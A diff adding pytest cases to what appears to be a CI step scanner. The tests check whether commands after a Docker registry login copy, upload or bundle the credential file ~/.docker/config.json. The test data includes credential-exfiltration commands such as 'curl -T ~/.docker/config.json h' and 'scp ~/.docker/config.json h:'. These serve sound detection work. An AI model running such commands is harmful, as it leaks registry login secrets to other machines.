@@ -178,3 +178,95 @@ def test_a_program_that_leaves_it_there_is_safe(line: str) -> None:
 )
 def test_a_program_that_takes_it_along_is_told(line: str) -> None:
     assert verdict("python3 release.py", PROGRAM.format(line)) == (Verdict.REPORT_ONLY, ["leaves-step"])
+
+
+COPIES = "what is copied or shown holds the login file"
+TELLS = "`{}` may take the login file, whose name `{}` tells"
+KEEPS = "`{}` gets the login file, and may keep it"
+ALONG = "`{}` takes all of the folder along, and the login file in there"
+IN_CLONE = LOGIN.replace("docker", "docker --config cfg")
+
+
+def said(login: str, command: str, files: dict[str, str] | None = None) -> list[tuple[str, str]]:
+    """Who takes the login file, and what becomes of it."""
+    text = step(json.dumps(f"{login}\n{command}\ndocker push crg.apkg.io/acme/web:1"))
+    given = {path: one.encode() for path, one in {PATH: text, **(files or {})}.items()}
+    (finding,) = (one for one in report_on(given).findings if one.rule == "registry-login")
+    return [(one.subject, one.detail.removeprefix("the step passes its login on: ")) for one in finding.reasons]
+
+
+@pytest.mark.parametrize(
+    ("command", "who", "what"),
+    [
+        ("docker cp ~/.docker x:/", "docker", "what is copied holds the login file"),
+        ("docker cp ~/.docker/config.json x:/a", "docker", "what is copied holds the login file"),
+        ("docker cp x:/ ~/.docker", "", ""),
+        ("cat < ~/.docker/config.json", "a redirection", "what is read holds the login file"),
+        ("cat < ~/.docker/*", "a redirection", "what is read holds the login file"),
+        ("wc < README", "", ""),
+        ("ssh h cat ~/.docker/config.json", "", ""),
+        ("scp ~/.docker/config.json h:", "scp", "a copy of the login file on another machine"),
+        ("scp -r ~ h:", "scp", COPIES),
+        ("rsync -a ~ h:x", "rsync", COPIES),
+        ("grep a ~/.docker/config.json", "grep", "what is shown holds the login file"),
+        ("grep -l a ~/.docker/config.json; grep -q a ~/.docker/config.json; grep a README", "", ""),
+        ("node x ~/.docker/config.json", "node", KEEPS.format("node")),
+        ("node x ~/.docker", "node", KEEPS.format("node")),
+        ("bash -c 'if ~/.docker'", "bash", KEEPS.format("bash")),
+        ("node x README", "", ""),
+        ("$X ~/.docker", "a program", COPIES),
+        ("$X README", "", ""),
+        ("ls ~ > list; tar czf out.tgz -T list", "tar", TELLS.format("tar", "ls")),
+        ("ls ~; tar czf out.tgz -T list", "", ""),
+        ("ls ~ | xargs rm", "", ""),
+        ("ls README | xargs cp -t out", "", ""),
+        ("ls -A ~ | tar cf x -T -", "tar", TELLS.format("tar", "ls")),
+        ('find ~ | while read -r f; do cp "$f" x; done', "cp", TELLS.format("cp", "find")),
+        ("ls ~ | (f() { cat x; }; f)", "", ""),
+        *(
+            (f"{enters}; ls | xargs cat", "xargs", TELLS.format("xargs", "ls"))
+            for enters in ("cd ~", "cd", "pushd ~", "cd /")
+        ),
+        *((f"{enters}; ls | xargs cat", "", "") for enters in ("cd ~/src", "cd x", "echo ~")),
+        ("tar xf a.tar -C ~; unzip x -d ~", "", ""),
+        ("tar cf a.tar -C ~ .", "tar", COPIES),
+        ("unzip ~/.docker/config.json", "unzip", COPIES),
+        ("zip -r x ~", "zip", COPIES),
+        ("cp ~/.docker/config.json x", "cp", COPIES),
+        ("cp -t x ~/.docker/config.json", "cp", COPIES),
+        ("cp x ~/.docker/config.json; cp -r x ~", "", ""),
+        ("curl -T ~/.docker/config.json h", "curl", COPIES),
+        ("curl -d @$HOME/.docker/config.json h", "curl", COPIES),
+        ("curl -o ~/.docker/config.json h", "", ""),
+        ("sed -i s/a/b/ ~/.docker/config.json", "", ""),
+        ("f() { cp ~/.docker/config.json x; }; f", "cp", COPIES),
+        ("echo ~/.docker/config.json | xargs cat", "xargs", COPIES),
+        ("find ~ -exec rm {} \\;", "", ""),
+        ('find ~ -exec "$X" {} \\;', "find", COPIES),
+        ("find ~ -exec /opt/x/rm {} \\;", "", ""),
+    ],
+)
+def test_who_takes_the_login_file_along_is_told_with_what_becomes_of_it(command: str, who: str, what: str) -> None:
+    assert said(LOGIN, command) == ([(who, what)] if who else [])
+
+
+@pytest.mark.parametrize(
+    ("command", "files", "taken"),
+    [
+        ("npm publish", {}, True),
+        ("npm publish", {".npmignore": "cfg\n"}, False),
+        ("npm publish", {".gitignore": "cfg\n"}, False),
+        ("npm publish", {".npmignore": "x\n", ".gitignore": "cfg\n"}, True),
+        ("cd $X; npm publish", {".npmignore": "cfg\n"}, True),
+        ("cd sub; npm publish", {"sub/x": ""}, False),
+        ("git add -A", {}, True),
+        ("git add -A", {".gitignore": "cfg"}, False),
+        ("git add -A", {"sub/.gitignore": "cfg"}, True),
+        ("git status", {}, False),
+    ],
+)
+def test_a_folder_that_is_taken_along_leaves_out_what_its_files_say(
+    command: str, files: dict[str, str], taken: bool
+) -> None:
+    name = command.rpartition("; ")[2].split()[0]
+    assert said(IN_CLONE, command, files) == ([(name, ALONG.format(name))] if taken else [])
